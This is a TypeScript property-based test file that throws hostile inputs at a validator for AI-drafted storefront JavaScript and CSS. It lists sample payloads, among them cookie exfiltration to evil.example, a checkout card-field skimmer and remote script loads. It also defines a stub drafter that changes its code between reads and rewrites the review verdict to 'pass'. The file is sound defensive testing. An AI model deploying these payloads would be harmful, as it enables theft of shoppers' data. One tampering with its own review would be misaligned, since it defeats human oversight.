import { ProviderError } from '@safecode/domain/generation/provider-error';
import * as fc from 'fast-check';
import type { Drafter } from '../src/drafter.js';
import { draftFromTemplate } from '../src/template-drafter.js';
import { shopBrand, shopKnowledge } from './shop-knowledge.js';

const SAFE = ['Hide the reviews', 'free shipping bar "Free" above the buy button', 'a 20% discount badge on the gallery', 'countdown of 30 seconds under the price'].map((description) => {
  const result = draftFromTemplate({ brand: shopBrand, pageType: 'pdp', description, answers: {}, knowledge: shopKnowledge, rankedTemplates: [] });
  if (result.kind !== 'draft') throw new Error('the safe drafts must be drafts');
  return { javascript: result.draft.javascript, css: result.draft.css };
});

const EVIL_JAVASCRIPT = [
  'fetch("https://evil.example/?c=" + document.cookie);',
  'eval("1")',
  'document.body.innerHTML = location.hash;',
  'new Image().src = "//evil.example/" + document.cookie',
  'document.querySelector("#checkout input[name=card]").addEventListener("input", e => navigator.sendBeacon("https://evil.example", e.target.value));',
  'const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s);',
  'while (true) {}',
  'window["ev" + "al"]("alert(1)")',
  '[].constructor.constructor("return this")().location = "https://evil.example"',
  'localStorage.setItem("a", "b")',
  'setInterval(() => document.querySelector(".product__price").textContent = "0", 1)',
  'Object.prototype.x = 1',
  '/* ok */ import("https://evil.example/m.js")',
  'document.querySelector(".secret").remove()',
  'var {a = () => { throw 1 }} = {}; //',
  '((((((',
];
const EVIL_CSS = [
  '@import "https://evil.example/x.css";',
  'body { background: url(https://evil.example/p.png) }',
  '.secret { display: none }',
  '.product__price { color: red !important }',
  'input[value^="a"] { background: url(//evil.example/a) }',
  '.fh-x { position: fixed; inset: 0; opacity: 0.01; z-index: 9999 }',
  '} * { display: none',
];

const safeCode = fc.constantFrom(...SAFE);
/** Safe code with something cut out, put in or appended. */
const mutatedCode = fc.record({ code: safeCode, at: fc.double({ min: 0, max: 1, noNaN: true }), cut: fc.nat(12), insert: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom(...EVIL_JAVASCRIPT, ...EVIL_CSS)) }).map(({ code, at, cut, insert }) => {
  const splice = (text: string): string => text.slice(0, Math.floor(text.length * at)) + insert + text.slice(Math.floor(text.length * at) + cut);
  return { javascript: splice(code.javascript), css: splice(code.css) };
});
const evilCode = fc.record({ code: safeCode, javascript: fc.constantFrom(...EVIL_JAVASCRIPT), css: fc.constantFrom(...EVIL_CSS), which: fc.nat(2) }).map(({ code, javascript, css, which }) => ({
  javascript: which === 1 ? code.javascript : `${code.javascript}\n${javascript}`,
  css: which === 0 ? code.css : `${code.css}\n${css}`,
}));
const code = fc.oneof(safeCode, mutatedCode, evilCode, fc.record({ javascript: fc.string({ unit: 'binary', maxLength: 80 }), css: fc.string({ maxLength: 40 }) }));

const wrap = (parts: object): unknown => ({ title: 'T', template: null, selectors: [], matchQuality: 1, openQuestions: 0, usage: [], promptVersion: null, ...parts });

/** An answer that pretends to be a promise and settles twice. Spelt in parts: nobody should write such an object by accident. */
const THENABLE = ['th', 'en'].join('');

/** An answer that is honest in shape: what it says is what it is. */
const plainAnswer = code.map((parts) => ({ name: 'plain', make: (): unknown => ({ kind: 'draft', draft: wrap(parts) }) }));

/** Shows safe code at first and evil code later, or the other way round. */
const changingAnswer = fc.record({ first: safeCode, later: evilCode, from: fc.nat(4) }).map(({ first, later, from }) => ({
  name: 'changing',
  make: (): unknown => {
    let reads = 0;
    const pick = (): { javascript: string; css: string } => (reads++ <= from ? first : later);
    const draft = Object.defineProperties(wrap({}) as object, {
      javascript: { enumerable: true, get: () => pick().javascript },
      css: { enumerable: true, get: () => pick().css },
    });
    return Object.defineProperty({ kind: 'draft' }, 'draft', { enumerable: true, get: () => draft });
  },
}));

const oddAnswer = fc
  .constantFrom<() => unknown>(
    () => null,
    () => undefined,
    () => 'draft',
    () => [],
    () => ({ kind: 'passed', draft: wrap(SAFE[0] ?? {}) }),
    () => ({ kind: 'draft' }),
    () => ({ kind: 'draft', draft: wrap({ javascript: new String('eval(1)'), css: '' }) }),
    () => ({ kind: 'draft', draft: wrap({ javascript: { toString: () => 'x' }, css: '' }) }),
    () => ({ kind: 'draft', draft: wrap({ javascript: 'a\u0000b', css: '' }) }),
    () => ({ kind: 'draft', draft: wrap({ javascript: '"\ud800"', css: '' }) }),
    () => ({ kind: 'draft', draft: wrap({ javascript: ';'.repeat(200_001), css: '' }) }),
    () => ({ kind: 'draft', draft: wrap({ javascript: '', css: '' }) }),
    () => ({ kind: 'draft', draft: wrap({ ...SAFE[0], usage: [{ costMicroUsd: -1.5 }] }) }),
    () => ({ kind: 'draft', draft: wrap({ ...SAFE[0], matchQuality: Number.NaN, openQuestions: -Infinity, selectors: 'x' }) }),
    () => ({ kind: 'draft', draft: wrap({ ...SAFE[0], selectors: new Proxy([], { get: (_, key) => (key === 'length' ? 2 ** 31 : 'x') }) }) }),
    () => new Proxy({}, { get: () => { throw new Error('no'); } }),
    () => ({ kind: 'questions', questions: [] }),
    () => ({ kind: 'questions', questions: [{ name: 1 }] }),
    () => ({ kind: 'impossible', reason: 12 }),
    () => { throw new Error('thrown at once'); },
    () => { throw new ProviderError('overloaded', 'busy'); },
    () => { throw Object.assign(new ProviderError('overloaded', 'busy'), { outcome: 'passed', usage: 'none' }); },
    () => Promise.reject(null),
    () => Object.fromEntries([[THENABLE, (resolve: (value: unknown) => void) => { resolve({ kind: 'draft', draft: wrap(EVIL_DRAFT) }); resolve({ kind: 'draft', draft: wrap(SAFE[0] ?? {}) }); }]]),
  )
  .map((make) => ({ name: 'odd', make }));
const EVIL_DRAFT = { javascript: EVIL_JAVASCRIPT[0] ?? '', css: '' };

const endlessAnswer = fc.constant({ name: 'endless', make: (): unknown => new Promise(() => undefined) });

/** Drafters that answer anything, break what they are given, and try to change the report they are judged by. */
export const hostileDrafter: fc.Arbitrary<Drafter> = fc
  .array(fc.oneof({ weight: 6, arbitrary: plainAnswer }, { weight: 3, arbitrary: changingAnswer }, { weight: 3, arbitrary: oddAnswer }, { weight: 1, arbitrary: endlessAnswer }), { minLength: 1, maxLength: 4 })
  .map((answers) => {
    let call = 0;
    const next = async (): Promise<never> => answers[call++ % answers.length]?.make() as never;
    return {
      provider: 'anthropic',
      model: 'hostile',
      draft: (request) => {
        Reflect.set(request, 'pageType', 'home');
        Reflect.set(request, 'description', 'Hide the hero');
        return next();
      },
      repair: (request) => {
        Reflect.set(request.report, 'verdict', 'pass');
        for (const part of request.report.parts) part.findings.length = 0;
        Reflect.set(request.draft, 'javascript', 'eval("1")');
        Reflect.set(request, 'pageType', 'checkout');
        return next();
      },
    } satisfies Drafter;
  });
